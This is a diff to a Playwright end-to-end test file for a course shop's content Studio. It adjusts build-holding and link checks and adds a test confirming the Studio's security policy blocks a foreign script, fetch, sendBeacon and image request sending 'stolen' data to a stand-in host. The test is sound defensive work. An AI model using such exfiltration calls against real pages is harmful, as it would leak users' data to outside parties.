@@ -5,7 +5,13 @@ import type { Page } from 'playwright/test';
 import { studioTexts } from '../../studio/texts.ts';
 import { refundAtProvider } from '../support/browser/payments.ts';
 import { pdfFile } from '../support/browser/pdf.ts';
-import { newestBuild, pollBuild, rebuild, untilQuiet } from '../support/browser/rebuild.ts';
+import {
+  holdBuilds,
+  newestBuild,
+  pollBuild,
+  rebuild,
+  untilQuiet,
+} from '../support/browser/rebuild.ts';
 import { buy, signUp } from '../support/browser/students.ts';
 import {
   chooseAction,
@@ -44,6 +50,7 @@ test('publishing a title builds the site at once, and the subject page then show
   const title = await field(studio, 'title').inputValue();
   const another = `Scarcity, choice and the owner ${randomUUID()}`;
   await field(studio, 'title').fill(another);
+  await holdBuilds(sandbox, false);
   await untilQuiet(request, sandbox);
   const isShown = async () =>
     (await (await request.get('/microeconomics')).text()).includes(another);
@@ -56,6 +63,7 @@ test('publishing a title builds the site at once, and the subject page then show
     expect(await newestBuild(request, sandbox)).toBeLessThan(published + AT_ONCE);
     await pollBuild(isShown).toBe(true);
   } finally {
+    await holdBuilds(sandbox, true);
     await delayQueries(sandbox, 0);
     await contentOf(sandbox).patch(ITEM).set({ title }).commit();
   }
@@ -99,7 +107,8 @@ test('a third subject created in the Studio has a page, can be bought, and is de
   await studio.getByRole('button', { name: 'Generate' }).click();
   await expect(field(studio, 'slug')).toHaveValue('development-economics');
   await publish(studio);
-  const entry = studio.getByRole('link', { name: /Development Economics/ });
+  // A topic's entry names its subject, too.
+  const entry = studio.getByRole('link', { name: /^Development Economics/ });
   await expect(entry).toContainText(studioTexts.noFiles);
 
   const subjectId = await content.fetch<string>(
@@ -205,10 +214,41 @@ test('the sample shop’s values carry a warning, and the Studio leads to the sa
   await expect(warnings).toHaveCount(1);
   await studio.getByRole('link', { name: 'Sales and admin' }).click();
   for (const [name, path] of [
-    ['Sales and customers', '/admin#sales'],
+    ['Sales', '/admin#sales'],
+    ['Customers', '/admin#customers'],
     ['Admin panel', '/admin'],
   ] as const) {
-    const link = studio.getByRole('link', { name });
+    const link = studio.getByRole('link', { name, exact: true });
     await expect(link).toHaveAttribute('href', `${sandbox.shop}${path}`);
   }
+});
+
+/** @covers studio.policy */
+test('the Studio runs no foreign script, and sends nothing to a foreign address', async ({
+  browser,
+  sandbox,
+}) => {
+  const studio = await openStudio(browser, sandbox, '/structure/shopSettings');
+  const blocked = await studio.evaluate(async () => {
+    const directives: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      directives.push(effectiveDirective),
+    );
+    const inline = document.createElement('script');
+    inline.textContent = 'window.isForeign = true';
+    const foreign = document.createElement('script');
+    foreign.src = 'https://foreign.invalid/script.js';
+    document.head.append(inline, foreign);
+    await fetch('https://foreign.invalid/', { method: 'POST', body: 'stolen' }).catch(() => {});
+    navigator.sendBeacon('https://foreign.invalid/', 'stolen');
+    // The events of all four come before this one's error.
+    const image = new Image();
+    image.src = 'https://foreign.invalid/stolen.png';
+    await new Promise((resolve) => image.addEventListener('error', resolve));
+    return { directives: directives.sort(), isForeign: 'isForeign' in window };
+  });
+  expect(blocked).toEqual({
+    directives: ['connect-src', 'connect-src', 'img-src', 'script-src-elem', 'script-src-elem'],
+    isForeign: false,
+  });
 });
